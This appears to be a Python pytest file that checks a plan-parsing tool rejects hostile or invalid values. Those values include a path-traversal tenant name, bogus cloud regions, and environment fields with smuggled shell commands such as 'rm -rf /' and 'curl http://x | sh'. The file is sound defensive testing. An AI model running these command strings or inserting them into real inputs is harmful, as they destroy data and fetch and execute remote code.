"""Hostile names and values are refused at their plan line, never dropped or replaced by a default."""
from __future__ import annotations

import pytest

from testlib import line_of, PLANS
from planforge.decide import decide
from planforge.errors import RefusedError
from planforge.plan import parse_text

TENANT = (PLANS / "multi-tenant-saas.plan.md").read_text(encoding="utf-8")
EKS = (PLANS / "aws-eks-argocd.plan.md").read_text(encoding="utf-8")


def refused(text: str) -> list[tuple[int, str, str]]:
    with pytest.raises(RefusedError) as exc:
        decide(parse_text(text, "p.md"))
    return [(p.line, p.field, p.message) for p in exc.value.problems]


def test_a_traversal_tenant_is_refused_at_its_tree_line_not_dropped():
    text = TENANT.replace("    └── initech/\n\nkubernetes", "    ├── initech/\n    └── ../../etc/\n\nkubernetes")
    assert refused(text) == [(line_of(text, "../../etc/"), "tenants", "tenant '../../etc' is not a DNS-1123 label: "
                                                                   "'.' is not a lowercase letter, digit or '-'")]


@pytest.mark.parametrize("old,new,bad", [
    ("single-region (eu-central-1)", "single-region (us-east-99)", "us-east-99"),
    ("single-region (eu-central-1)", "single-region (eu-middle-1)", "eu-middle-1"),
    ("single-region (eu-central-1)", "single-region (eu-west-9)", "eu-west-9"),  # shaped like one, and no region
])
def test_an_unknown_region_is_refused_not_replaced_by_the_default(old, new, bad):
    text = TENANT.replace(old, new)
    assert refused(text) == [(line_of(text, new), "Deployment Type", f"{bad!r} is not a region of AWS")]


@pytest.mark.parametrize("region,cloud", [("westeurope", "AZURE"), ("europe-west1", "GCP"), ("fra1", "DIGITALOCEAN")])
def test_another_clouds_region_is_refused_not_replaced_by_the_default(region: str, cloud: str):
    text = TENANT.replace("single-region (eu-central-1)", f"single-region ({region})")
    assert refused(text) == [(line_of(text, f"({region})"), "Deployment Type",
                              f"{region!r} is a region of {cloud}, not of AWS, the plan's cloud")]


def test_a_multi_cloud_deployment_names_the_other_clouds_region():
    text = EKS.replace("**Target Environment**", "**Region**: eu-west-1 (AWS), westeurope (Azure)\n**Target Environment**")
    decide(parse_text(text, "p.md"))  # a Region field naming its own cloud's region as well is not refused


def test_a_region_field_naming_no_region_is_refused():
    text = EKS.replace("**Target Environment**", "**Region**: mars-base\n**Target Environment**")
    assert refused(text) == [(line_of(text, "mars-base"), "Region", "'mars-base' names no region of AWS")]


@pytest.mark.parametrize("value,message", [
    ("dev; rm -rf /; curl http://x | sh", "shell metacharacter '|'"),
    ("dev, $(reboot), prod", "shell metacharacter '$'"),
    ("dev && shutdown", "shell metacharacter '&'"),
    ("dev, rm -rf, prod", "environment 'rm -rf' is not a DNS-1123 label: a blank"),
])
def test_an_environment_list_with_a_command_is_refused_at_its_line(value, message):
    text = EKS.replace("dev, staging, production", value)
    problems = refused(text)
    assert problems[0][:2] == (line_of(text, "**Target Environment**"), "Target Environment")
    assert message in problems[0][2]


def test_environment_words_still_become_environments():
    text = EKS.replace("dev, staging, production", "Development environment, staging only, Production (AWS), qa")
    assert decide(parse_text(text, "p.md")).answers.environments == ["dev", "staging", "prod", "qa"]


def test_more_environments_than_the_limit_are_refused():
    text = EKS.replace("dev, staging, production", ", ".join(f"e{i}" for i in range(21)))
    assert refused(text) == [(line_of(text, "e20"), "Target Environment", "21 environments; at most 20 are supported")]


def test_more_tenants_than_the_limit_are_refused():
    tree = "".join(f"    ├── t{i}/\n" for i in range(101))
    text = TENANT.replace("└── tenants/\n    ├── acme/\n", "└── tenants/\n" + tree + "    ├── acme/\n", 1)
    problems = refused(text)
    assert any(f == "tenants" and m.startswith("104 tenants; at most 100") for _, f, m in problems)


@pytest.mark.parametrize("written,region", [("North Europe", "northeurope"), ("West US 2", "westus2"),
                                            ("germanywestcentral", "germanywestcentral")])
def test_an_azure_region_in_its_display_form_is_read(written: str, region: str):
    text = (PLANS / "aks-argocd-keyvault.plan.md").read_text(encoding="utf-8")
    line = next(raw for raw in text.splitlines() if raw.startswith("**Deployment Type**"))
    text = text.replace(line, f"**Deployment Type**: single-region ({written})  ")
    d = decide(parse_text(text, "p.md"))
    assert d.answers.region == region and d.provenance["region"].line == line_of(text, f"({written})")


@pytest.mark.parametrize("region", ["us-gov-west-1", "cn-north-1"])
def test_a_partition_aws_does_not_serve_here_is_refused(region: str):
    text = TENANT.replace("single-region (eu-central-1)", f"single-region ({region})")
    assert refused(text) == [(line_of(text, f"({region})"), "Deployment Type", f"{region!r} is not a region of AWS")]
